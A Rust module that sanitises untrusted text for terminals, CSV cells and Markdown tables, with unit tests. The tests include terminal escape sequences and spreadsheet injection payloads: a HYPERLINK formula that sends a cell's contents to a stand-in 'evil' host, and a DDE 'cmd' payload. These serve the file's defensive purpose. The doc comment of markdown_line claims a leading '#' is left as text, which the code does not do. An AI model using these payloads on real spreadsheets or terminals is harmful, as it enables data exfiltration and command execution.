//! The one sanitiser of text that reaches a terminal or a spreadsheet.
//!
//! Text from question files, archives, file names and colleagues' review files is untrusted:
//! it is stored as given, but every output boundary passes it through here. A C0 or C1
//! control character (ESC starts the sequences that set a terminal's title, write its
//! clipboard or clear its screen), DEL, or a BiDi control (which reorders what the reader
//! sees) is replaced by a visible, harmless stand-in: `␛` for ESC and the other control
//! pictures for C0, `⟨U+009B⟩` for C1 and BiDi controls. Line breaks are kept only where the
//! layout allows them ([`terminal_text`]); elsewhere they show as `␊` ([`terminal_line`]).
//!
//! CSV cells are also neutralised for spreadsheets ([`csv_cell`], OWASP's rule: a cell that
//! begins with `=`, `+`, `-`, `@`, tab or CR is prefixed with `'` so that it is not a
//! formula), and Markdown table cells escaped ([`markdown_cell`]).

use std::borrow::Cow;
use std::fmt::Write as _;

/// True for a character that must never reach a terminal raw: C0 and C1 controls, DEL,
/// the BiDi embedding, override and isolate controls, and the Unicode line and paragraph
/// separators (which some terminals treat as line breaks).
pub fn is_unsafe(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{61c}' | '\u{200e}' | '\u{200f}'
        | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
        | '\u{2028}' | '\u{2029}')
}

/// Appends the visible stand-in of an unsafe character.
fn push_visible(c: char, out: &mut String) {
    match c {
        // The Control Pictures block has one glyph per C0 code, in order.
        '\u{0}'..='\u{1f}' => out.push(char::from_u32(0x2400 + c as u32).unwrap_or('?')),
        '\u{7f}' => out.push('\u{2421}'),
        _ => {
            let _ = write!(out, "⟨U+{:04X}⟩", c as u32);
        }
    }
}

/// Rewrites `s` with every character for which `unsafe_here` holds made visible; borrows
/// when there is nothing to change (the common case).
fn rewrite(s: &str, unsafe_here: impl Fn(char) -> bool) -> Cow<'_, str> {
    let Some(first) = s.find(&unsafe_here) else {
        return Cow::Borrowed(s);
    };
    let mut out = String::with_capacity(s.len() + 8);
    out.push_str(&s[..first]);
    for c in s[first..].chars() {
        if unsafe_here(c) {
            push_visible(c, &mut out);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Text for one line of a terminal (a status bar, a table cell, a file name in a message):
/// every unsafe character visible, line breaks included.
pub fn terminal_line(s: &str) -> Cow<'_, str> {
    rewrite(s, is_unsafe)
}

/// Text for a terminal where the layout allows line breaks (a note, a paragraph, a message
/// on its own lines): `\n` kept, every other unsafe character visible (a lone CR too, which
/// would move the cursor back over what was written).
pub fn terminal_text(s: &str) -> Cow<'_, str> {
    rewrite(s, |c| c != '\n' && is_unsafe(c))
}

/// A CSV cell, safe in a spreadsheet and on a terminal: control characters visible (line
/// breaks kept: the CSV writer quotes them), and a leading `=`, `+`, `-`, `@`, tab or CR
/// (also after leading spaces, which some spreadsheets skip) neutralised with a `'`.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    let formula = s
        .trim_start_matches(' ')
        .starts_with(['=', '+', '-', '@', '\t', '\r']);
    let visible = terminal_text(s);
    if formula {
        Cow::Owned(format!("'{visible}"))
    } else {
        visible
    }
}

/// A Markdown table cell: on one line (line breaks become `<br>`, a lone CR too, since it
/// ends a Markdown line), `|` escaped, other control characters visible.
pub fn markdown_cell(s: &str) -> String {
    let normalised = s.replace("\r\n", "\n");
    let mut out = String::with_capacity(normalised.len());
    for c in normalised.trim().chars() {
        match c {
            '\n' | '\r' => out.push_str("<br>"),
            '|' => out.push_str("\\|"),
            c if is_unsafe(c) => push_visible(c, &mut out),
            c => out.push(c),
        }
    }
    out
}

/// Markdown prose (a heading, a summary line): as [`terminal_line`], and a leading `#`
/// left as text.
pub fn markdown_line(s: &str) -> String {
    let visible = terminal_line(s);
    visible.replace('\n', " ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escape_sequences_become_visible() {
        assert_eq!(terminal_line("\u{1b}]2;PWNED\u{7}"), "␛]2;PWNED␇");
        assert_eq!(terminal_line("a\u{1b}[2Jb"), "a␛[2Jb");
        assert_eq!(terminal_line("\u{9b}31m"), "⟨U+009B⟩31m");
        assert_eq!(terminal_line("abc\u{202e}fed"), "abc⟨U+202E⟩fed");
        assert_eq!(terminal_line("x\u{7f}"), "x␡");
    }

    #[test]
    fn line_breaks_depend_on_the_layout() {
        assert_eq!(terminal_line("a\nb"), "a␊b");
        assert_eq!(terminal_text("a\nb\rc"), "a\nb␍c");
        assert!(matches!(terminal_line("Santé publique"), Cow::Borrowed(_)));
    }

    #[test]
    fn spreadsheet_formulas_are_neutralised() {
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil/?d=\"&A1,\"x\")"),
            "'=HYPERLINK(\"http://evil/?d=\"&A1,\"x\")"
        );
        assert_eq!(csv_cell("+Mme"), "'+Mme");
        assert_eq!(csv_cell("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
        assert_eq!(csv_cell("-1"), "'-1");
        assert_eq!(csv_cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_cell("\tx"), "'␉x");
        assert_eq!(csv_cell("  =1"), "'  =1");
        assert_eq!(csv_cell("Mme Sylvie Bonnet"), "Mme Sylvie Bonnet");
        assert_eq!(csv_cell("ligne 1\nligne 2"), "ligne 1\nligne 2");
    }

    #[test]
    fn markdown_cells_stay_on_one_line() {
        assert_eq!(markdown_cell("a|b"), "a\\|b");
        assert_eq!(markdown_cell("un\ndeux\rtrois"), "un<br>deux<br>trois");
        assert_eq!(markdown_cell("x\r\ny"), "x<br>y");
        assert_eq!(markdown_cell("\u{1b}[2J"), "␛[2J");
    }
}
